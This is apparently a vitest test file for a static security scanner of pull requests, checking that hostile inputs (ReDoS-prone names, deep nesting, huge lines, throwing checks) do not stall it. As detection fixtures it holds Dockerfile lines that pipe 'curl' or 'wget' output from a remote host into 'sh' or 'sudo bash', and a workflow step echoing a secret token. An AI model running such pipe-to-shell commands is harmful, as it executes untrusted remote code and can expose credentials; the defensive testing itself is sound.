/**
 * Content a pull request controls must not stall or kill the static lens: names compiled into
 * regular expressions, lines that make a regex quadratic, files nested thousands of levels deep, a
 * check that throws. Sizes are picked so the code before these guards ran for a minute or more (or
 * threw); the tests assert the outcome, not a wall time.
 */
import { describe, expect, it } from 'vitest';
import type { Clock } from '../../src/core/ports.js';
import type { FileCheck } from '../../src/static/checks/check.js';
import { dockerfileCheck } from '../../src/static/checks/dockerfile/dockerfile-check.js';
import { FILE_CHECKS } from '../../src/static/checks/file-checks.js';
import { runStaticRules } from '../../src/static/run-static-rules.js';
import type { StaticFile } from '../../src/static/static-file.js';
import { overStaticLimits, STATIC_LIMITS } from '../../src/static/static-limits.js';

function file(path: string, content: string): StaticFile {
  const lines = content.split('\n').length;
  return { path, content, changedLines: new Set(Array.from({ length: lines }, (_, i) => i + 1)) };
}

/** A workflow with a secret under `name` and one under TOKEN, printed on lines 9 and 10. */
function workflow(name: string, letters: number): string {
  return [
    'on: push',
    'jobs:',
    '  build:',
    '    runs-on: ubuntu-latest',
    '    env:',
    `      '${name}': \${{ secrets.ODD }}`,
    '      TOKEN: ${{ secrets.TOKEN }}',
    '    steps:',
    `      - run: echo $${'a'.repeat(letters)}`,
    '      - run: echo "$TOKEN"',
    '',
  ].join('\n');
}

const secretInLog = (findings: { ruleId: string; line: number }[]) =>
  findings.filter((f) => f.ruleId === 'gha-secret-in-log').map((f) => f.line);

describe('static lens on hostile content', () => {
  it('a workflow env name "(a+)+c" and a 30-letter $aaa… finishes (the regex built from it backtracked ~2^30 steps) and still flags $TOKEN', async () => {
    const result = await runStaticRules([file('.github/workflows/ci.yml', workflow('(a+)+c', 30))]);
    expect(result.failed).toEqual([]);
    expect(secretInLog(result.findings)).toEqual([10]);
  });

  it('a workflow env name "TOKEN(" is no shell name: no throw, the other secret printed is still flagged', async () => {
    const result = await runStaticRules([file('.github/workflows/ci.yml', workflow('TOKEN(', 3))]);
    expect(result.failed).toEqual([]);
    expect(secretInLog(result.findings)).toEqual([10]);
  });

  it('env names are matched as whole shell names: $TOKEN and ${TOKEN} print it, $TOKEN_X and TOKEN do not', async () => {
    const lines = (run: string) =>
      runStaticRules([
        file(
          '.github/workflows/ci.yml',
          [
            'on: push',
            'jobs:',
            '  b:',
            '    env:',
            '      TOKEN: ${{ secrets.T }}',
            '    steps:',
            `      - run: ${run}`,
            '',
          ].join('\n'),
        ),
      ]).then((r) => secretInLog(r.findings));
    expect(await lines('echo "$TOKEN"')).toEqual([7]);
    expect(await lines('echo "${TOKEN}"')).toEqual([7]);
    expect(await lines('echo "$TOKEN_X"')).toEqual([]);
    expect(await lines('echo TOKEN')).toEqual([]);
  });

  it('a check that throws on a file → recorded as failed with its reason, the file’s other rules and other files still reported', async () => {
    const broken: FileCheck = {
      language: 'broken',
      rules: [],
      covers: (path) => path.endsWith('.ts'),
      run: () => {
        throw new Error('boom from the check');
      },
    };
    const result = await runStaticRules(
      [
        file('src/a.ts', 'export const f = (s: string) => eval(s);\n'),
        file('Dockerfile', 'FROM a\nUSER root\n'),
      ],
      { checks: [...FILE_CHECKS, broken] },
    );
    expect(result.failed).toEqual([{ path: 'src/a.ts', rule: 'broken', reason: 'boom from the check' }]);
    expect(result.findings.map((f) => `${f.path} ${f.ruleId}`).sort()).toEqual([
      'Dockerfile docker-user-root',
      'src/a.ts js-eval',
    ]);
  });

  it('a Kubernetes YAML nested 2,000 levels (every level privileged) → skipped with the nesting reason, not scanned', async () => {
    const deep = `kind: Pod\nspec: ${'{privileged: true, securityContext: '.repeat(2_000)}{}${'}'.repeat(2_000)}\n`;
    const result = await runStaticRules([file('k8s/pod.yaml', deep)]);
    expect(result.overLimits).toEqual([
      { path: 'k8s/pod.yaml', reason: expect.stringMatching(/nested 2001 levels deep, over .* cap of 256/) },
    ]);
    expect(result.scanned).toEqual([]);
  });

  it('a Dockerfile RUN line of 80,000 `curl` words, with and without `| sh` → read in one pass (the regex took about a minute at 400 KB)', () => {
    // No pipe: the regex retried from each of the 80,000 words to the end of the line.
    expect(dockerfileCheck.run(`FROM alpine:3\nRUN ${'curl '.repeat(80_000)}\n`)).toEqual([]);
    const content = `FROM alpine:3\nRUN ${'curl '.repeat(80_000)}| sh\n`;
    expect(dockerfileCheck.run(content).map((h) => h.rule.id)).toEqual(['docker-curl-pipe-shell']);
    // Still only the command that feeds the pipe counts.
    expect(dockerfileCheck.run('FROM a\nRUN curl -o x https://e.com; cat x | sh\n')).toEqual([]);
    expect(dockerfileCheck.run('FROM a\nRUN curl https://e.com || sh\n')).toEqual([]);
    expect(dockerfileCheck.run('FROM a\nRUN wget -qO- https://e.com | sudo -E bash\n')).toHaveLength(1);
  });

  it('the run’s deadline passed after the first file → the rest are listed unread, not reported clean', async () => {
    let now = 0;
    const clock: Clock = { now: () => now, sleep: async () => {} };
    const checks: FileCheck[] = [
      { language: 'tick', rules: [], covers: () => true, run: () => ((now += 1_000), []) },
    ];
    const files = ['a', 'b', 'c'].map((n) => file(`src/${n}.ts`, 'export const x = 1;\n'));
    const result = await runStaticRules(files, { checks, deadline: { at: 500, clock } });
    expect(result.scanned).toEqual(['src/a.ts']);
    expect(result.unread).toEqual(['src/b.ts', 'src/c.ts']);
  });

  it('caps hold at their boundary: at the cap a file is read, one past it it is skipped', () => {
    const limits = { bytes: 100, lineChars: 10, nesting: 3 };
    expect(overStaticLimits('x'.repeat(10), limits)).toBeNull();
    expect(overStaticLimits('x'.repeat(11), limits)).toMatch(/a line of 11 characters/);
    expect(overStaticLimits('((()))', limits)).toBeNull();
    expect(overStaticLimits('(((())))', limits)).toMatch(/nested 4 levels/);
    expect(overStaticLimits('a\n b\n  c\n', limits)).toBeNull();
    expect(overStaticLimits('a\n b\n  c\n   d\n', limits)).toMatch(/nested 4 levels/);
    expect(overStaticLimits('x\n'.repeat(50), limits)).toBeNull();
    expect(overStaticLimits('x\n'.repeat(50) + 'y', limits)).toMatch(/101 characters/);
    expect(STATIC_LIMITS.nesting).toBe(256);
  });
});

describe('Dockerfile heredocs a pull request controls', () => {
  it('30,000 unterminated `RUN <<A` lines and a line of 20,000 `<<A` → read in one pass, nothing swallowed', () => {
    const unterminated = `FROM a\n${'RUN <<A\n'.repeat(30_000)}USER root\n`;
    // No terminator: no heredoc, so the USER after them is still read as an instruction.
    expect(dockerfileCheck.run(unterminated).map((h) => h.rule.id)).toEqual(['docker-user-root']);
    const many = `FROM a\nRUN ${'<<A '.repeat(20_000)}\n${'A\n'.repeat(20_000)}USER root\n`;
    expect(dockerfileCheck.run(many).map((h) => h.rule.id)).toEqual(['docker-user-root']);
  });
});
